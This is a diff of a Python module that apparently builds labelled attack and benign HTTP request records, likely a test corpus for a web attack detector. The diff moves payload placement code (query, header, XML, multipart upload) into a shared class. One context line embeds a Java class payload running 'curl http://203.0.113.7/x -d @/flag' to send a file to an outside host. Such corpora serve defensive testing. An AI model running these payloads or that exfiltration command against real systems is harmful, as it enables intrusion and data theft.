@@ -47,13 +47,12 @@ from __future__ import annotations
 
 import base64
 import gzip
-import json
 import struct
-import urllib.parse
 from collections.abc import Iterator
 from typing import Any
 
-from .family_gen import UA, _get, _json, _query
+from .blind_placements import RS_NAMES, BlindSet, Cycles, Entry, Put, Record, request
+from .family_gen import _get, _json
 from .family_gen_blind_php import chat_and_bio, links_and_prose
 from .records import numbered, print_records
 
@@ -239,7 +238,6 @@ CLASS_TRANSLET = _b64(_classfile("Evil", "curl http://203.0.113.7/x -d @/flag",
 # ----------------------------------------------------------------------------------------------------------------
 # Payloads. An entry is a payload string, or (payload, real placement, rs placement) when it only works in one
 # kind of place.
-Entry = str | tuple[str, str, str]
 JB = ("json-body", "rs-json-body")
 XB = ("xml", "rs-xml")
 RQ = ("raw-query", "rs-raw-query")
@@ -1367,154 +1365,57 @@ LATIN1_SUBS = {"java-serialization"}
 
 # ----------------------------------------------------------------------------------------------------------------
 # Placements
-REAL_CYCLE = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
-              "param-name", "xml", "multipart-field", "path"]
-RS_CYCLE = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
-            "rs-header:X-Test-Header", "rs-cookie", "rs-param-name"]
-REAL_NAMES = ["q", "expr", "name", "template", "url", "file", "data", "callback", "message", "filter"]
-RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
-RS_NAMES = ["foo", "var", "x", "test", "id", "arg1", "input"]
-BOUNDARY = "----WebKitFormBoundaryCtf158xQ2"
-COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"
-RAW_SAFE = "=&[]._-:/'*$!(),;{}~@%+"
+JSP_AT = [sub for _, sub, _ in FAMILIES].index("jsp-upload")   # a JSP source's file name turns with its entry
 
 
-def _header_safe(value: str) -> bool:
-    return all(" " <= ch <= "~" for ch in value) and len(value) < 2000
+class _Set(BlindSet):
+    prefix = NAME
+    families = FAMILIES
+    names = ["q", "expr", "name", "template", "url", "file", "data", "callback", "message", "filter"]
+    rs_names = [*RS_NAMES, "input"]
+    boundary = "----WebKitFormBoundaryCtf158xQ2"
+    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"   # parameter binding and pollution strings go as typed
+    form_accept = "*/*"
+    documents = True
+    fit_fixed = True
+
+    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
+        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))
+
+    def is_latin(self, sub: str, payload: str) -> bool:
+        return sub in LATIN1_SUBS
+
+    def _p_raw_query(self, p: Put) -> Record:
+        return _get("/api/users?" + self._raw(p))
+
+    def _p_raw_form(self, p: Put) -> Record:
+        return self._p_form(p._replace(raw=True))
+
+    def _p_json(self, p: Put) -> Record:
+        return _json("/api/users", {"email": "player@example.org", p.name: p.v})
+
+    def _p_upload(self, p: Put) -> Record:
+        name = JSP_NAMES[(p.k - JSP_AT) % len(JSP_NAMES)]
+        body = self.multipart([("csrf_token", "t0k3n", None), ("file", p.v, name)])
+        return request("POST", "/admin/users/import", body, self.multipart_type)
+
+    def _p_rs_raw_query(self, p: Put) -> Record:
+        return request("GET", p.path + "?" + self._raw(p))
+
+    def _p_rs_raw_form(self, p: Put) -> Record:
+        return self._p_rs_form(p._replace(raw=True))
+
+    def _p_rs_upload(self, p: Put) -> Record:
+        target = self.rs_upload if p.path in ("/", "/get", "/search") else p.path
+        name = JSP_NAMES[(p.k - JSP_AT + 5) % len(JSP_NAMES)]
+        return request("POST", target, self.multipart([("file", p.v, name)]), self.multipart_type)
 
 
-def _enc(value: str, latin: bool, safe: str = "") -> str:
-    return urllib.parse.quote(value.encode("latin-1") if latin else value.encode(), safe=safe)
-
-
-def _request(method: str, uri: str, body: str = "", content_type: str = "", **headers: str) -> dict[str, Any]:
-    h = {"User-Agent": UA, "Accept": "*/*"}
-    if content_type:
-        h["Content-Type"] = content_type
-    h.update(headers)
-    return {"method": method, "uri": uri, "body": body, "headers": h}
-
-
-def _xml_body(value: str, root: str, name: str) -> str:
-    if value.startswith("<") and len(value) > 1 and (value[1].isalpha() or value[1] == "?"):
-        return value   # the payload is the document (XStream, XMLDecoder, SOAP)
-    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
-    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escaped}</{name}></{root}>'
-
-
-def _multipart(parts: list[tuple[str, str, str | None]]) -> str:
-    out = []
-    for name, value, filename in parts:
-        if filename is None:
-            out.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n')
-        else:
-            fn = filename.replace('"', "%22")
-            out.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"; filename="{fn}"\r\n'
-                       f"Content-Type: application/octet-stream\r\n\r\n{value}\r\n")
-    return "".join(out) + f"--{BOUNDARY}--\r\n"
-
-
-MULTIPART = "multipart/form-data; boundary=" + BOUNDARY
-
-
-def _real(place: str, name: str, v: str, latin: bool, i: int) -> dict[str, Any]:
-    if place == "query":
-        return _get("/api/users?" + name + "=" + _enc(v, latin) + "&page=1")
-    if place == "form":
-        return _request("POST", "/admin/users/search", "csrf_token=t0k3n&" + name + "=" + _enc(v, latin),
-                        "application/x-www-form-urlencoded")
-    if place == "raw-form":
-        return _request("POST", "/admin/users/search", "csrf_token=t0k3n&" + _enc(v, False, RAW_SAFE),
-                        "application/x-www-form-urlencoded")
-    if place == "raw-query":
-        return _get("/api/users?" + _enc(v, False, RAW_SAFE))
-    if place == "json":
-        return _json("/api/users", {"email": "player@example.org", name: v})
-    if place == "json-body":
-        return {**_json("/api/users", {}), "body": v}
-    if place == "cookie":
-        cookie = "session=abc123; " + name + "=" + _enc(v, latin, COOKIE_SAFE)
-        return _request("GET", "/api/users?page=1", Cookie=cookie)
-    if place.startswith("header:"):
-        return _request("GET", "/api/users?page=1", **{place.split(":", 1)[1]: v})
-    if place == "param-name":
-        return _get("/api/users?" + _enc(v, latin) + "=1&page=1")
-    if place == "xml":
-        return _request("POST", "/api/users", _xml_body(v, "user", name), "application/xml")
-    if place == "multipart-field":
-        return _request("POST", "/api/users", _multipart([("csrf_token", "t0k3n", None), (name, v, None)]), MULTIPART)
-    if place == "upload":
-        return _request("POST", "/admin/users/import",
-                        _multipart([("csrf_token", "t0k3n", None), ("file", v, JSP_NAMES[i % len(JSP_NAMES)])]),
-                        MULTIPART)
-    if place == "path":
-        return _get("/api/users/" + _enc(v, latin))
-    raise ValueError(place)
-
-
-def _rs(place: str, path: str, name: str, v: str, latin: bool, i: int) -> dict[str, Any]:
-    form = "application/x-www-form-urlencoded"
-    if place == "rs-query":
-        return _request("GET", path + "?" + name + "=" + _enc(v, latin))
-    if place == "rs-raw-query":
-        return _request("GET", path + "?" + _enc(v, False, RAW_SAFE))
-    if place == "rs-form":
-        return _request("POST", path, name + "=" + _enc(v, latin), form)
-    if place == "rs-raw-form":
-        return _request("POST", path, _enc(v, False, RAW_SAFE), form)
-    if place == "rs-json":
-        return _request("POST", path, json.dumps({name: v}), "application/json")
-    if place == "rs-json-body":
-        return _request("POST", path, v, "application/json")
-    if place == "rs-xml":
-        return _request("POST", path, _xml_body(v, "root", name), "text/xml")
-    if place == "rs-raw-body":
-        return _request("POST", path, _enc(v, True, RAW_SAFE) if latin else v, form)
-    if place.startswith("rs-header:"):
-        return _request("GET", path, **{place.split(":", 1)[1]: v})
-    if place == "rs-cookie":
-        return _request("GET", path, Cookie=name + "=" + _enc(v, latin, COOKIE_SAFE))
-    if place == "rs-param-name":
-        return _request("GET", path + "?" + _enc(v, latin) + "=1")
-    if place == "rs-upload":
-        target = "/post" if path in ("/", "/get", "/search") else path
-        return _request("POST", target, _multipart([("file", v, JSP_NAMES[(i + 5) % len(JSP_NAMES)])]), MULTIPART)
-    raise ValueError(place)
-
-
-def _fits(place: str, v: str) -> bool:
-    """Header-borne and path placements need a printable single-line ASCII value."""
-    if place.startswith(("header:", "rs-header:")) or place in ("cookie", "rs-cookie"):
-        return _header_safe(v)
-    if place == "path":
-        return _header_safe(v) and len(v) < 400
-    return True
+SET = _Set()
 
 
 def attacks() -> Iterator[dict[str, Any]]:
-    n = 0
-    for s, (category, sub, entries) in enumerate(FAMILIES):
-        real_cycle, rs_cycle = SUB_CYCLES.get(sub, (REAL_CYCLE, RS_CYCLE))
-        latin = sub in LATIN1_SUBS
-        for i, entry in enumerate(entries):
-            if isinstance(entry, tuple):
-                payload, real_place, rs_place = entry
-            else:
-                payload = entry
-                real_place = real_cycle[(i + s) % len(real_cycle)]
-                rs_place = rs_cycle[(i + 2 * s) % len(rs_cycle)]
-            if not _fits(real_place, payload):
-                real_place = ["json", "form", "query"][i % 3]
-            if not _fits(rs_place, payload):
-                rs_place = ["rs-json", "rs-form", "rs-query"][i % 3]
-            name = REAL_NAMES[(i + s) % len(REAL_NAMES)]
-            rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
-            rs_name = RS_NAMES[(i + 3 * s) % len(RS_NAMES)]
-            for place, rec in ((real_place, _real(real_place, name, payload, latin, i)),
-                               (rs_place, _rs(rs_place, rs_path, rs_name, payload, latin, i))):
-                n += 1
-                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
-                       "placement": place, "payload": payload}
+    return SET.attacks()
 
 
 # ----------------------------------------------------------------------------------------------------------------
@@ -1720,17 +1621,12 @@ BENIGN_HEADERS = [
 
 def benign() -> Iterator[dict[str, Any]]:
     n = yield from chat_and_bio(CHAT, NAME)
-    n = yield from numbered((_get(_query("/api/users", [("q", q), ("page", "1")])) for q in SEARCHES),
-                            f"{NAME}-search", n, "query")
+    n = yield from SET.searches(SEARCHES, NAME, n)
     n = yield from links_and_prose(URLS, PROSE, NAME, n)
     n = yield from numbered((_json("/api/users", {"name": who, "bio": bio, "email": "member@example.org"})
                              for who, bio in PROFILES), f"{NAME}-profile", n, "json")
-    n = yield from numbered((_request("POST", "/admin/users/import",
-                                      _multipart([("csrf_token", "t0k3n", None), ("file", "hello", fn)]),
-                                      MULTIPART) for fn in UPLOAD_NAMES),
-                            f"{NAME}-upload", n, "multipart-filename")
-    yield from numbered((_request("GET", "/api/users?page=1", **{k: v}) for k, v in BENIGN_HEADERS),
-                        f"{NAME}-header", n, "header")
+    n = yield from SET.uploads(UPLOAD_NAMES, NAME, n)
+    yield from SET.headers(BENIGN_HEADERS, NAME, n)
 
 
 if __name__ == "__main__":
